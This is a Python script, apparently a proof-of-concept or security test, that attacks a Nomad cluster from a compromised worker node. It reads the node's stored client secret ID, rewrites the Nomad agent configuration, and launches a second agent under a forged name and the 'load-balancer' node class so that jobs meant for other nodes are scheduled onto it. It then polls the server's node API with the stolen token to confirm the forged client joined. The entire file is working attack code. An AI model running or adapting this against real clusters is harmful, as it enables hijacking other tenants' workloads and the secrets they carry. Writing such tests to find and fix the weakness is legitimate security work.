"""A hostile worker joins Nomad once more, under another name, class and pool, to be given others' jobs.

Runs on the node. Prints the names of the clients that Nomad then has, and the id of the second one.
"""

from __future__ import annotations

import json
import re
import shutil
import ssl
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

SERVER, PLACE, NAME = sys.argv[1], Path("/run/second-client"), "edge-forged"
OWN = Path("/opt/nomad/client/secret-id").read_text(encoding="ascii").strip()
TRUST = ssl.create_default_context(cafile="/etc/ssl/nomad/nomad-ca.pem")
PORTS = f'name = "{NAME}"\nports {{\n  http = 24646\n  rpc = 24647\n  serf = 24648\n}}'


def clients() -> list[dict[str, Any]]:
    asked = urllib.request.Request(f"https://{SERVER}:4646/v1/nodes", headers={"X-Nomad-Token": OWN})
    with urllib.request.urlopen(asked, context=TRUST, timeout=5) as answer:  # noqa: S310 - https, as above
        return list(json.loads(answer.read()))


PLACE.mkdir(exist_ok=True)
text = Path("/etc/nomad.d/nomad.hcl").read_text(encoding="utf-8").replace('"/opt/nomad"', f'"{PLACE}/data"')
text = re.sub(r"^name .*$", PORTS, text, flags=re.MULTILINE)
text = re.sub(r"node_class +=.*", 'node_class = "load-balancer"', text)
(PLACE / "nomad.hcl").write_text(text, encoding="utf-8")
with (PLACE / "log").open("wb") as log:
    command = ("/opt/saltern/bin/nomad", "agent", f"-config={PLACE}/nomad.hcl")
    agent = subprocess.Popen(command, stdout=log, stderr=log)
try:
    deadline, found = time.monotonic() + 15, clients()
    while NAME not in [one["Name"] for one in found] and time.monotonic() < deadline:
        time.sleep(0.5)
        found = clients()
finally:
    agent.terminate()
    agent.wait(30)
    shutil.rmtree(PLACE)
print(json.dumps({one["Name"]: one["ID"] for one in found}))
